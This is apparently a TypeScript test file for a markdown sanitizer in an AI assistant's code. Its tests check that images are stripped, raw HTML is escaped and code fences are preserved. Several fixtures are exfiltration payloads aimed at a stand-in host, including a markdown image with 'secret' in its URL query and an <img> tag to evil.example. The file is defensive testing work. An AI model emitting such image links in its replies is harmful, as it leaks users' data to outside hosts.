import assert from "node:assert/strict";
import { test } from "node:test";
import { safeMarkdown } from "../../../src/assistant/safeMarkdown.ts";

test("an image is not fetched", () => {
  assert.doesNotMatch(safeMarkdown("a ![x](https://evil.example/?q=secret) b"), /!\[/);
  assert.doesNotMatch(safeMarkdown("![x][ref]\n\n[ref]: https://evil.example"), /!\[/);
});

test("raw HTML becomes visible text", () => {
  assert.equal(safeMarkdown('<img src="https://evil.example">'), '&lt;img src="https://evil.example">');
});

test("code keeps its characters, in fences and in backquotes", () => {
  const markdown = "Use `a < b`:\n\n```ts\nif (a < b) {} // ![x](y)\n```\n\n~~~html\n<b>\n~~~";
  assert.equal(safeMarkdown(markdown), markdown);
});

test("text after a fence is made safe again, and a fence inside a longer one does not end it", () => {
  const markdown = "````\n```\n<code>\n````\n<b>";
  assert.equal(safeMarkdown(markdown), "````\n```\n<code>\n````\n&lt;b>");
});
